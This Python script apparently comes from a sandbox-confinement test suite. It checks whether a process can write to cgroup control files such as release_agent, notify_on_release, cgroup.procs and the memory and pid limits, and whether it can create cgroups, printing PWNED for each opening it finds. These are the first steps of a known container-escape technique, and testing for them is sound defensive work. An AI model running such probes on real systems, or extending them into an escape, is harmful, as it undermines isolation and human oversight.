"""Leave the limits by way of cgroups: move ourselves up, raise the limits, make groups, set a release agent.

Shows: PWNED on stdout.
"""

import glob
import os
from contextlib import suppress

folders = ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*/"), *glob.glob("/sys/fs/cgroup/*/*/")]
with suppress(OSError), open("/proc/self/cgroup") as file:
    for line in file:
        _, names, path = line.rstrip("\n").split(":", 2)
        folders += [f"/sys/fs/cgroup/{names}{path}", f"/sys/fs/cgroup/unified{path}", f"/sys/fs/cgroup{path}"]
for folder in folders:
    for name in (
        "cgroup.procs",
        "tasks",
        "release_agent",
        "notify_on_release",
        "memory.max",
        "memory.limit_in_bytes",
        "pids.max",
    ):
        with suppress(OSError):
            os.close(os.open(f"{folder}/{name}", os.O_WRONLY))
            print("PWNED", folder, name)
    with suppress(OSError):
        os.mkdir(f"{folder}/lydite-attack")
        print("PWNED made a group in", folder)
        os.rmdir(f"{folder}/lydite-attack")
